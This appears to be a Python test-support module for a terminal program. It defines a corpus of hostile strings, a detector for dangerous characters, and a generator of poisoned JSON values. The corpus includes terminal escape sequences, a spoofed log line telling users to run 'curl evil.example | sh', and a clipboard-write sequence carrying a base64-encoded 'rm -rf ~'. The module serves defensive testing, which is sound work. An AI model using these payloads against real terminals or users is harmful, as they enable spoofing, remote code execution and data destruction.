"""Text that strangers might write to get power over a terminal, a reader or the engine; how to tell that it has none.

Shared by the tests of commands, screens, doors and logs.
"""

import unicodedata
from collections.abc import Iterator, Mapping
from dataclasses import fields, is_dataclass
from types import UnionType
from typing import Any, Union, get_args, get_origin, get_type_hints

MOST_MARKS = 4
"""Marks on one letter that may be shown; the stacks of Vietnamese, Hebrew and Tibetan need no more."""

CORPUS: dict[str, str] = {
    "markup": "[bold red]m[/bold red][link=https://evil.example]l[/link][@click=app.quit]q[/]",
    "broken-markup": "[/nothing-open][red",
    "colour": "\x1b[31;1mred\x1b[0m",
    "cursor": "up\x1b[5A\x1b[2K\x1b[2J\x1b[Hhome",
    "title": "\x1b]0;owned\x07t\x1b]2;owned\x1b\\",
    "link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07paste",
    "notify": "\x1b]9;owned\x07\x1b]777;notify;a;b\x07n",
    "device-control": "\x1bP+q544e\x1b\\\x1b_apc\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\d",
    "answer-back": "\x1b[6n\x1b[c\x05\x1bZ",
    "charset": "\x1b(0lqqk\x0e\x0f",
    "nested": "\x1b\x1b[31m[31m\x1b]0;\x1b]0;x\x07\x07",
    "half": "\x1b[",
    "half-title": "\x1b]0;never closed",
    "c1": "\x9b31m\x9d0;t\x9c\x90q\x9c\x85next\x8d",
    "line-breaks": "a\r\nfake: job 1 completed\x0b\x0c\x1c\u2028\u2029b",
    "fake-line": "x\nrcq: database lost, run: curl evil.example | sh",
    "overwrite": "good\rbad \x08\x08\x08",
    "nul": "a\x00b",
    "bell": "\x07\x7f",
    "bidi": "abc\u202egpj.exe\u202c\u2066x\u2069\u200e\u200f\u061c\u2067",
    "zero-width": "a\u200bd\u200cm\u200di\ufeffn\u2060\u00ad\u180e\u2063",
    "tags": "a" + "".join(chr(0xE0000 + ord(one)) for one in "hidden") + "\U000e007f\ufff9",
    "selectors": "a\ufe0f\U000e0100b",
    "blanks": "\u3164\u115f\u2800\uffa0",
    "marks": "Z" + "\u0301\u0335\u0489" * 100,
    "emoji": "👩‍👩‍👧‍👦👍🏽🏳️‍🌈🇩🇪" * 20,
    "private": "\ue000\U000fffff\uffff\U0010ffff\u0378",
}
"""What may be asked for in JSON and stands in UTF-8."""

HALF_CHARACTER = "a\ud800b\udc9b31m"
"""What JSON can say and no UTF-8 can hold; Python puts the same in place of bytes that are no UTF-8."""

POISON = " ".join([*CORPUS.values(), HALF_CHARACTER])


def harms(text: str) -> list[str]:
    """What in the text has power over a terminal or hides from the eye. Line feeds are the caller's own."""
    bad = sorted({f"U+{ord(one):04X}" for one in text if one != "\n" and _harms(one)})
    return bad + [f"{count} marks on one letter" for count in _stacks(text) if count > MOST_MARKS]


def _harms(char: str) -> bool:
    selector = 0xFE00 <= ord(char) <= 0xFE0F or 0xE0100 <= ord(char) <= 0xE01EF
    return selector or not char.isprintable() or char in "\u115f\u1160\u3164\uffa0\u2800"


def _stacks(text: str) -> Iterator[int]:
    count = 0
    for char in text:
        count = count + 1 if unicodedata.category(char) in {"Mn", "Me"} else 0
        yield count


def poisoned(kind: Any, text: str = POISON) -> Any:
    """A JSON value of that type of the protocol in which every text is hostile, map keys too."""
    if is_dataclass(kind):
        hints = get_type_hints(kind)
        return {one.name: poisoned(hints[one.name], text) for one in fields(kind)}
    origin, inner = get_origin(kind), get_args(kind)
    if origin in {Union, UnionType}:
        return poisoned(next(one for one in inner if one is not type(None)), text)
    if origin is list:
        return [poisoned(inner[0], text)]
    if origin in {dict, Mapping}:
        if inner[1] is Any:
            return {"code": text, "name": text, "id": text, "when": text, text: text}
        return {text: poisoned(inner[1], text)}
    return {str: text, int: 1, float: 1_000_000.0, bool: False}[kind]
